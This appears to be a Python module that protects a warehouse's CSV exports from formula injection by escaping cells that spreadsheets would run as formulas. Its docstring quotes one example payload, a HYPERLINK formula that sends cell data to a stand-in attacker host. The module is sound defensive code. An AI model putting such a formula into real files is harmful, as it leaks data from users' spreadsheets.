"""CSV cells that a spreadsheet cannot run: the one helper every CSV writer of the warehouse uses.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (CSV/formula injection, OWASP): an entity or
service name like ``=HYPERLINK("http://evil.example/?"&A1)`` would run on the analyst's machine.
:func:`safe_cell` prefixes such text with ``'`` (shown as text, the way spreadsheets mark it).
Numbers stay numbers: ints and floats, and text that is a plain number (``-0.25``, ``+3``, ``1e-3``,
what the exports' number formatting writes), pass unchanged — with a decimal comma too (``-0,25``)
in a writer made with ``decimal=","`` (the console's Italian spreadsheet downloads).
"""
from __future__ import annotations

import csv
import re
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_STARTS = frozenset(FORMULA_START)
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any, decimal: str = ".") -> Any:
    """``value``, or ``"'" + value`` for text a spreadsheet would take for a formula; a plain number
    written with ``decimal`` as its decimal mark (``.`` or ``,``) is no formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and \
            not _NUMBER.fullmatch(value.replace(",", ".") if decimal == "," and "." not in value else value):
        return "'" + value
    return value


class _SafeWriter:
    """``csv.writer`` with every cell passed through :func:`safe_cell`."""

    def __init__(self, out, decimal: str = ".", **kwargs):
        self._w = csv.writer(out, **kwargs)
        self._decimal = decimal

    def writerow(self, row: Iterable[Any]):
        # :func:`safe_cell` of each cell, its cheap test inline: a row's cells are mostly numbers and codes
        # (a function call per cell was most of the cost of writing a large file, e.g. the public series)
        d = self._decimal
        return self._w.writerow([safe_cell(v, d) if isinstance(v, str) and v and v[0] in _STARTS else v for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, decimal: str = ".", **kwargs) -> _SafeWriter:
    """A CSV writer (same arguments as :func:`csv.writer`) whose cells are neutralized; ``decimal``
    is the decimal mark of the numbers written as text (``,`` in an Italian spreadsheet's file)."""
    return _SafeWriter(out, decimal=decimal, **kwargs)


def fmt_value(v) -> str:
    """A value as an export's CSV cell: "" for missing (None, NA, NaN, ±inf), floats rounded to 4 places."""
    import math

    import pandas as pd

    if v is None or v is pd.NA or (isinstance(v, float) and not math.isfinite(v)):
        return ""
    if isinstance(v, float):
        return repr(round(v, 4))
    return str(v)
